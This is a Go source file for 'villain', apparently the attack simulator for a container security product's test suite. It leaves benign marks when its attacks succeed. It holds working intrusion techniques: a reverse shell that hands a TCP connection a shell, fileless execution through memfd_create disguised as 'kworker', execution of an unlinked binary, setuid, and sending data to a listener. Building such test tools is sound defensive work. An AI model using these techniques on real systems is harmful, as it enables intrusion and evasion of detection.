// Command villain is the attacker of the demonstration and of the attack suite:
// one static program that tries what intruders try inside a container. It is
// built into their images and never leaves them. Each attack, if it succeeds,
// leaves a mark that somebody else can see: a file in a shared folder, a line at
// a listener.
//
// Called by another name than attack it does what VILLAIN_DO says: a server, a
// tool or a miner is told by the name of its program.
package main

import (
	"fmt"
	"io"
	"maps"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// patience is how long a program of attackers lives before it does harm where
// Breakwater's agent, and not the kernel, is to end it: a miner works for hours.
const patience = 5 * time.Second

// act is one attack with its arguments.
type act struct {
	arguments string
	do        func(args []string) error
}

func acts() map[string]act {
	return map[string]act{
		"wait":           {"", wait},
		"mark":           {"FILE", func(a []string) error { return mark(a[0]) }},
		"later":          {"FILE", func(a []string) error { return later(a[0]) }},
		"spawn":          {"PROGRAM…", spawn},
		"spawn-shell":    {"FILE", spawnShell},
		"as-user":        {"UID PROGRAM…", asUser},
		"as":             {"NAME PROGRAM…", as},
		"nameless":       {"PROGRAM", func(a []string) error { return syscall.Exec(a[0], []string{""}, os.Environ()) }},
		"drop":           {"FILE PATH", func(a []string) error { return drop(a[0], a[1]) }},
		"fileless":       {"FILE", func(a []string) error { return fileless("mark " + a[0]) }},
		"fileless-later": {"FILE", func(a []string) error { return fileless("later " + a[0]) }},
		"unlinked":       {"FILE PATH", func(a []string) error { return unlinked(a[0], a[1]) }},
		"escape":         {"FILE", func(a []string) error { return os.WriteFile(a[0], []byte("/tmp/escaped\n"), 0o644) }},
		"rewrite":        {"FILE MARK", func(a []string) error { return rewrite(a[0], a[1]) }},
		"append":         {"FILE", func(a []string) error { return appendTo(a[0]) }},
		"read":           {"FILE MARK", func(a []string) error { return read(a[0], a[1]) }},
		"hold":           {"FILE MARK", func(a []string) error { return hold(a[0], a[1]) }},
		"shell":          {"ADDRESS PROGRAM…", shell},
		"connect":        {"ADDRESS", func(a []string) error { return connect("tcp", a[0], "stolen\n") }},
		"datagram":       {"ADDRESS", func(a []string) error { return connect("udp", a[0], "stolen\n") }},
		"mine":           {"ADDRESS", func(a []string) error { return mine(a[0]) }},
		"ask":            {"SERVER NAME MARK", func(a []string) error { return ask(a[0], a[1], a[2]) }},
		"ask-many":       {"SERVER NAME COUNT", func(a []string) error { return askMany(a[0], a[1], a[2]) }},
		"scan":           {"ADDRESS PORT COUNT", func(a []string) error { return scan(a[0], a[1], a[2]) }},
		"sweep":          {"ADDRESS PORT COUNT", func(a []string) error { return sweep(a[0], a[1], a[2]) }},
		"listen":         {"ADDRESS", func(a []string) error { return listen(a[0]) }},
		"engine":         {"SOCKET MARK", func(a []string) error { return engine(a[0], a[1]) }},
		"socket":         {"KIND MARK", func(a []string) error { return socket(a[0], a[1]) }},
		"call":           {"NAME MARK", func(a []string) error { return call(a[0], a[1]) }},
		"ptrace":         {"MARK", func(a []string) error { return ptrace(a[0]) }},
		"namespace":      {"", func([]string) error { return namespace() }},
		"lo-up":          {"", func([]string) error { return loopbackUp() }},
	}
}

func main() {
	args := os.Args[1:]
	if name := filepath.Base(os.Args[0]); name != "attack" && os.Getenv("VILLAIN_DO") != "" {
		args = strings.Fields(os.Getenv("VILLAIN_DO"))
		if err := os.Unsetenv("VILLAIN_DO"); err != nil { // what it starts acts for itself
			fatal(err.Error())
		}
	}
	all := acts()
	if len(args) == 0 {
		fatal("usage: attack ACT…: one of " + strings.Join(slices.Sorted(maps.Keys(all)), ", "))
	}
	a, known := all[args[0]]
	if !known {
		fatal("no attack named " + args[0])
	}
	if len(args)-1 < len(strings.Fields(a.arguments)) {
		fatal("usage: attack " + args[0] + " " + a.arguments)
	}
	if err := a.do(args[1:]); err != nil {
		fatal(err.Error())
	}
}

// wait is what the container does when nobody attacks.
func wait([]string) error {
	ended := make(chan os.Signal, 1)
	signal.Notify(ended, syscall.SIGTERM, os.Interrupt)
	<-ended
	return nil
}

func mark(file string) error { return os.WriteFile(file, []byte("I was here\n"), 0o644) }

func later(file string) error {
	time.Sleep(patience)
	return mark(file)
}

// spawn starts a program as a child, as a server does that was made to.
func spawn(args []string) error {
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	return cmd.Run()
}

// spawnShell makes a shell work for a while.
func spawnShell(args []string) error {
	return spawn([]string{"/bin/sh", "-c", fmt.Sprintf("sleep %d; echo x > %s", int(patience.Seconds()), args[0])})
}

// asUser runs a program as another user.
func asUser(args []string) error {
	uid, err := strconv.Atoi(args[0])
	if err != nil {
		return err
	}
	if err := syscall.Setuid(uid); err != nil {
		return err
	}
	return syscall.Exec(args[1], args[1:], os.Environ())
}

// as runs a program under another name for itself.
func as(args []string) error {
	return syscall.Exec(args[1], append([]string{args[0]}, args[2:]...), os.Environ())
}

// drop writes a new program into the container and runs it.
func drop(mark, path string) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return err
	}
	if err := os.Remove(path); err != nil && !os.IsNotExist(err) {
		return err
	}
	if err := os.WriteFile(path, self, 0o755); err != nil {
		return err
	}
	cmd := exec.Command(path)
	cmd.Env = append(os.Environ(), "VILLAIN_DO=mark "+mark)
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("run %s: %w %s", path, err, out)
	}
	return nil
}

// fileless runs a program that has no name in any directory (memfd_create(2)).
func fileless(do string) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("x", 0)
	if err != nil {
		return err
	}
	f := os.NewFile(uintptr(fd), "memfd")
	if _, err := f.Write(self); err != nil {
		return err
	}
	return runDescriptor(fd, do)
}

// unlinked runs a program whose file is gone.
func unlinked(mark, path string) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	if err := os.WriteFile(path, self, 0o755); err != nil {
		return err
	}
	fd, err := unix.Open(path, unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	if err := os.Remove(path); err != nil {
		return err
	}
	return runDescriptor(fd, "mark "+mark)
}

func runDescriptor(fd int, do string) error {
	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	return syscall.Exec(path, []string{"kworker"}, append(os.Environ(), "VILLAIN_DO="+do))
}

// rewrite opens a file for writing and writes what it holds.
func rewrite(path, file string) error {
	old, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	if _, err := f.Write(old); err != nil {
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	return mark(file)
}

// appendTo adds a line to a file, which it makes if need be.
func appendTo(path string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o644)
	if err != nil {
		return err
	}
	_, err = f.WriteString("# an intruder's line\n")
	return errorsOf(err, f.Close())
}

func read(path, file string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	if _, err := io.ReadFull(f, make([]byte, 16)); err != nil {
		return err
	}
	return mark(file)
}

// hold opens a file and works with it for a while.
func hold(path, file string) error {
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	return later(file)
}

// shell gives whoever listens at address a shell, or another program.
func shell(args []string) error {
	conn, err := net.Dial("tcp", args[0])
	if err != nil {
		return err
	}
	f, err := conn.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	for fd := range 3 {
		if err := syscall.Dup3(int(f.Fd()), fd, 0); err != nil {
			return err
		}
	}
	if err := syscall.SetNonblock(0, false); err != nil {
		return err
	}
	return syscall.Exec(args[1], args[1:], os.Environ())
}

// connect sends a line to address.
func connect(network, address, line string) error {
	conn, err := net.Dial(network, address)
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = io.WriteString(conn, line)
	return err
}

func errorsOf(errs ...error) error {
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

func fatal(message string) {
	fmt.Fprintln(os.Stderr, "attack:", message)
	os.Exit(1)
}
